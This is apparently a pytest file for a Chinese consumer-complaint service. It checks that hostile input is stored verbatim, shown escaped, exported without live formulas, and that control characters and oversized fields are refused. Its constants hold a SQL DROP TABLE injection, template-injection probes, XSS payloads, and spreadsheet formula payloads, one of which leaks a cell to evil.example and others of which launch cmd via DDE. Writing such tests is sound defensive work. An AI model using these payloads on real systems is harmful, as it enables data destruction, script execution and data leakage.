"""Hostile text: SQL and template injection, markup, spreadsheet formulas and mixed scripts are stored and
shown back verbatim and inert — the JSON unchanged, pages escaped and never evaluated, exports without a
formula from user text — while oversized fields and invisible control characters are refused, field by
field, in Chinese then English."""

from __future__ import annotations

import csv
import io
import re
import xml.etree.ElementTree as ET
import zipfile
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from typing import Any

import asyncpg
import pytest
from litestar.testing import AsyncTestClient
from markupsafe import escape

from service.app import create_app
from service.settings import Settings
from tests.support.casework import browser_of
from tests.support.consumer import form_fields, open_form, track_page
from tests.support.factories import complaint_body
from tests.support.html import csrf_token, hidden
from tests.support.staff import Staff

Client = AsyncTestClient  # type: ignore[type-arg]

SQL = "'; DROP TABLE cases; --"
# a template engine that evaluated user text would print 370370367 and qzqzqz (markers no generated value
# on a page can hold: "XXX" was found inside a random access code, DKR4XXXF)
TEMPLATE = "{{ 7*7 }} {{ 123456789*3 }} {% for x in 'abc' %}qz{% endfor %} ${123456789*3} #{123456789*3}"
EVALUATED = ("370370367", "qzqzqz")
MARKUP = '<script>alert("xss")</script><img src=x onerror=alert(1)> </textarea><b>粗</b>'
MIXED = "欧阳 John محمد 😀👨\u200d👩\u200d👧 Ωμέγα"  # Chinese, Latin, Arabic, emoji (joined), Greek
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+1",
)
# a month no other test writes: the complaints below are moved into it to be returned
MONTH, MONTH_START = "2022-09", datetime(2022, 9, 13, 2, tzinfo=UTC)
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def hostile_body(merchant_name: str) -> dict[str, Any]:
    return complaint_body(
        consumer__name=MIXED,
        consumer__address=f"{SQL} 杭州市拱墅区",
        merchant__name=merchant_name,
        merchant__uscc=...,  # unregistered: the return names the business as the complaint did
        merchant__address=TEMPLATE,
        description=f"{SQL}\n{TEMPLATE}\n{MARKUP}\n{MIXED}",
    )


def assert_inert(html: str, *values: str) -> None:
    for value in values:
        assert str(escape(value)) in html, value
    assert "<script>alert" not in html and "<img src=x" not in html and "<b>粗</b>" not in html
    for product in EVALUATED:
        assert product not in html


@pytest.fixture(scope="module")
async def hostile(client: Client, pool: asyncpg.Pool) -> list[dict[str, Any]]:
    """One complaint per formula, each carrying every other hostile string as well."""
    receipts = []
    for name in FORMULAS:
        r = await client.post("/api/v1/complaints", json=hostile_body(name))
        assert r.status_code == 201, r.text
        receipt = dict(r.json())
        receipt["id"] = await pool.fetchval(
            "SELECT id FROM cases WHERE tracking_no = $1", receipt["tracking_no"]
        )
        receipts.append(receipt)
    return receipts


async def test_the_database_survives_and_holds_the_text_as_sent(
    hostile: list[dict[str, Any]], pool: asyncpg.Pool
) -> None:
    assert await pool.fetchval("SELECT to_regclass('cases') IS NOT NULL")
    row = await pool.fetchrow(
        "SELECT p.name AS consumer_name, p.address AS consumer_address, merchant_name, merchant_address,"
        " description FROM cases c JOIN case_consumers p ON p.case_id = c.id WHERE c.id = $1",
        hostile[0]["id"],
    )
    assert dict(row) == {
        "consumer_name": MIXED,
        "consumer_address": f"{SQL} 杭州市拱墅区",
        "merchant_name": FORMULAS[0],
        "merchant_address": TEMPLATE,
        "description": f"{SQL}\n{TEMPLATE}\n{MARKUP}\n{MIXED}",
    }


async def test_the_api_returns_the_text_unchanged(
    client: Client, hostile: list[dict[str, Any]], staff: dict[str, Staff]
) -> None:
    for receipt, name in zip(hostile, FORMULAS, strict=True):
        mine = await client.get(
            f"/api/v1/complaints/{receipt['tracking_no']}", headers={"X-Access-Code": receipt["access_code"]}
        )
        assert mine.status_code == 200 and mine.json()["merchant_name"] == name
    case = (await client.get(f"/api/v1/cases/{hostile[0]['id']}", headers=staff["mediator"].headers)).json()
    assert case["consumer"]["name"] == MIXED and case["consumer"]["address"] == f"{SQL} 杭州市拱墅区"
    assert case["merchant"]["name"] == FORMULAS[0] and case["merchant"]["address"] == TEMPLATE
    assert case["description"] == f"{SQL}\n{TEMPLATE}\n{MARKUP}\n{MIXED}"


async def test_the_tracking_page_shows_it_escaped_and_unevaluated(
    client: Client, hostile: list[dict[str, Any]]
) -> None:
    for receipt, name in zip(hostile, FORMULAS, strict=True):
        assert_inert(await track_page(client, receipt), name)


async def test_the_staff_case_page_shows_it_escaped_and_unevaluated(
    settings: Settings, hostile: list[dict[str, Any]], staff: dict[str, Staff]
) -> None:
    async with browser_of(settings, "t_supervisor") as browser:
        page = await browser.get(f"/staff/cases/{hostile[0]['id']}")
    assert page.status_code == 200
    assert_inert(page.text, MIXED, f"{SQL} 杭州市拱墅区", FORMULAS[0], TEMPLATE, MARKUP)
    assert "{{ 7*7 }}" in page.text  # shown as typed …
    assert "{% for x in &#39;abc&#39; %}qz{% endfor %}" in page.text  # … not run


@pytest.fixture(scope="module")
async def returned(
    settings: Settings, hostile: list[dict[str, Any]], pool: asyncpg.Pool, staff: dict[str, Staff]
) -> AsyncIterator[tuple[Client, dict[str, str]]]:
    """The hostile complaints moved into MONTH, and that month's return produced."""
    await pool.execute(
        "UPDATE cases SET received_at = $2::timestamptz,"
        " received_on = ($2::timestamptz AT TIME ZONE 'Asia/Shanghai')::date"
        " WHERE id = any($1::bigint[])",
        [r["id"] for r in hostile],
        MONTH_START,
    )
    async with AsyncTestClient(app=create_app(settings)) as api:
        made = await api.post(f"/api/v1/returns/{MONTH}", headers=staff["supervisor"].headers)
        assert made.status_code in (200, 201), made.text
        yield api, staff["leading_group"].headers


async def test_the_spreadsheet_holds_user_text_as_strings_never_formulas(
    returned: tuple[Client, dict[str, str]],
) -> None:
    api, headers = returned
    r = await api.get(f"/api/v1/returns/{MONTH}.xlsx", headers=headers)
    assert r.status_code == 200
    zf = zipfile.ZipFile(io.BytesIO(r.content))
    shared: list[str] = []
    if "xl/sharedStrings.xml" in zf.namelist():
        sst = ET.fromstring(zf.read("xl/sharedStrings.xml"))
        shared = ["".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t")) for si in sst]
    strings: list[str] = []
    sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
    assert sheets
    for name in sheets:
        root = ET.fromstring(zf.read(name))
        assert root.find(".//m:f", NS) is None, f"a formula in {name}"
        for cell in root.iter(f"{{{NS['m']}}}c"):
            if cell.get("t") == "s":
                strings.append(shared[int(cell.findtext("m:v", "", NS))])
            elif cell.get("t") in ("inlineStr", "str"):
                strings.append("".join(t.text or "" for t in cell.iter(f"{{{NS['m']}}}t")))
    for formula in FORMULAS:  # the merchant names reached the return, as the text they are
        assert formula in strings, formula
    # the return carries no personal data: the consumer's name and address are nowhere
    everything = b"".join(zf.read(n) for n in zf.namelist()).decode("utf-8", errors="replace")
    assert str(escape(MIXED)) not in everything and MIXED not in everything
    assert "DROP TABLE" not in everything


async def test_the_csv_quotes_cells_a_spreadsheet_would_run(returned: tuple[Client, dict[str, str]]) -> None:
    api, headers = returned
    r = await api.get(f"/api/v1/returns/{MONTH}.csv.zip", headers=headers)
    assert r.status_code == 200
    zf = zipfile.ZipFile(io.BytesIO(r.content))
    cells = [
        cell
        for name in zf.namelist()
        for row in csv.reader(io.StringIO(zf.read(name).decode("utf-8-sig")))
        for cell in row
    ]
    for formula in FORMULAS:
        assert "'" + formula in cells, formula
        assert formula not in cells  # never bare
    dangerous = [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    assert dangerous == []
    negative_text = [c for c in cells if c[:1] == "-" and not re.fullmatch(r"-[\d.,%]+", c)]
    assert negative_text == []  # a leading minus only on numbers
    assert all(MIXED not in c and "DROP TABLE" not in c for c in cells)


async def test_the_report_page_shows_merchant_names_escaped(
    settings: Settings, returned: tuple[Client, dict[str, str]]
) -> None:
    async with browser_of(settings, "t_leading_group") as browser:
        page = await browser.get(f"/staff/returns/{MONTH}")
    assert page.status_code == 200, page.text
    assert_inert(page.text, *FORMULAS)


# --- what is refused --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("changes", "field", "message"),
    [
        ({"consumer__name": "张\x1b[31m三"}, "consumer.name", "控制字符"),  # terminal escape
        ({"consumer__address": "杭州市拱墅区\x08\x08\x08大关路"}, "consumer.address", "控制字符"),
        ({"description": "商品有问题\x00请处理，谢谢您的帮助"}, "description", "控制字符"),
        ({"merchant__name": "某某\u202e司公限有器电"}, "merchant.name", "文字显示方向"),  # reads backwards
        ({"description": "退款金额\u2067١٠٠\u2069元，商家拒绝处理。"}, "description", "文字显示方向"),
        ({"consumer__name": "张" * 51}, "consumer.name", "不能超过50个字"),
        ({"merchant__address": "杭" * 201}, "merchant.address", "不能超过200个字"),
        ({"description": "长" * 5001}, "description", "不能超过5000个字"),
    ],
)
async def test_oversized_fields_and_control_characters_are_refused_field_by_field(
    client: Client, pool: asyncpg.Pool, changes: dict[str, str], field: str, message: str
) -> None:
    before = await pool.fetchval("SELECT count(*) FROM cases")
    r = await client.post("/api/v1/complaints", json=complaint_body(**changes))
    assert r.status_code == 422, r.text
    errors = r.json()["errors"]
    assert [e["field"] for e in errors] == [field]
    assert message in errors[0]["message"]
    assert errors[0]["message_en"].isascii() and errors[0]["message_en"]
    assert await pool.fetchval("SELECT count(*) FROM cases") == before


async def test_arabic_and_hebrew_text_needs_no_direction_controls(client: Client) -> None:
    body = complaint_body(
        consumer__name="محمد علي", description="商品名称 שלום עולם ومرحبا，收货后发现破损。"
    )
    r = await client.post("/api/v1/complaints", json=body)
    assert r.status_code == 201, r.text


async def test_line_breaks_from_a_browser_form_are_text(client: Client, pool: asyncpg.Pool) -> None:
    """Browsers send a textarea's line breaks as CR LF; they are not control characters to refuse."""
    html = await open_form(client)
    description = "第一行：购买的电水壶漏电。\r\n第二行：商家拒绝退货。\r\n第三行：请求退款。"
    fields = form_fields(
        _csrf_token=csrf_token(html), form_key=hidden(html, "form_key"), description=description
    )
    r = await client.post("/complaints/new", data=fields)
    assert r.status_code == 201, r.text
    tracking_no = re.search(r"GS\d{8}-\d{6}", r.text).group(0)  # type: ignore[union-attr]
    stored = await pool.fetchval("SELECT description FROM cases WHERE tracking_no = $1", tracking_no)
    assert stored.splitlines() == [
        "第一行：购买的电水壶漏电。",
        "第二行：商家拒绝退货。",
        "第三行：请求退款。",
    ]
